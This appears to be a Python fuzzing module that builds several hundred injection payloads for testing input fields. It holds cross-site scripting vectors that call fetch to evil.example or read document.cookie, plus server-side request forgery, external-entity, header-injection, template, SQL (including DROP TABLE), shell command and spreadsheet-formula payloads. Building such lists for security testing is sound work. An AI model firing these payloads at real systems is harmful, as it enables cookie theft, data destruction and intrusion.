"""Three hundred things to type for more than typing: markup, pictures, files, headers, templates."""

from __future__ import annotations

from itertools import product
from typing import Final

_CALLS: Final = ("alert(1)", "fetch('//evil.example')", "document.cookie", "location='//evil.example'")
_ELEMENTS: Final = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '<svg><a href="javascript:{}"><text>x</text></a></svg>',
    '<body onload="{}">',
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<a href="javascript:{}">x</a>',
    '<math><mtext></mtext><mglyph><svg onload="{}">',
    '<details open ontoggle="{}">',
    '<input autofocus onfocus="{}">',
    '<form action="javascript:{}"><button>x</button></form>',
    "<style>@import 'javascript:{}';</style>",
    '<video><source onerror="{}"></video>',
    '<marquee onstart="{}">',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
    '<base href="javascript:{}//">',
    '<link rel=stylesheet href="javascript:{}">',
)
_LEADS: Final = ("", '">', "'>", "</textarea>", "</title>", "--><!--", "]]>")
_FILES: Final = (
    "file:///etc/passwd",
    "//evil.example/x",
    "http://169.254.169.254/",
    "data:text/html,x",
    "\\\\evil\\x",
)
_FETCHES: Final = (
    '<img src="{}">',
    '<link rel=attachment href="{}">',
    '<svg><image href="{}"/></svg>',
    '<svg><use xlink:href="{}#a"/></svg>',
    "<style>*{{background:url({})}}</style>",
    "<style>@font-face{{src:url({})}}</style>",
    '<a rel="attachment" href="{}">x</a>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "{}">]><x>&a;</x>',
    "/Launch /F ({}) /JS (app.alert(1)) <</S/URI/URI({})>>",
    "%PDF-1.7 1 0 obj<</Type/EmbeddedFile/F({})>>",
)
_LINES: Final = (
    "\r\nBcc: all@evil.example",
    "\nContent-Type: text/html\n\n<b>x",
    "\r\n\r\n<script>x</script>",
    "\u2028Subject: x",
    "\x0b\x0cX: y",
    "%0d%0aBcc: x",
    "=?utf-8?b?QmNjOiB4?=",
)
_CODE: Final = (
    "{{ 7 * 7 }}",
    "{% raw %}x{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "' OR '1'='1",
    "'; DROP TABLE referral; --",
    "1; SELECT pg_sleep(1)",
    "../../etc/passwd",
    "$(id)",
    "`id`",
    "|id",
    "%s%s%s%n",
    "\u202etxt.exe",
    "\u2066x\u2069",
    "\ufeffx",
    "😀" * 40,
    "A\u0300" * 60,
    "\x1b[2J",
    "\u202e\u202d",
    "nul\x00byte",
    "-->",
    "<!--",
    "&lt;script&gt;",
    "&#x3c;script&#x3e;",
    "\\x3cscript\\x3e",
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
)


def payloads() -> list[str]:
    """At least 300, all different, none longer than the shortest field for words."""
    made = [
        f"{lead}{element.format(call)}"
        for number, (element, call, lead) in enumerate(product(_ELEMENTS, _CALLS, _LEADS))
        if number % 2 == 0
    ]
    made += [fetch.format(*[file] * fetch.count("{}")) for fetch, file in product(_FETCHES, _FILES)]
    return list(dict.fromkeys([*made, *_LINES, *_CODE]))
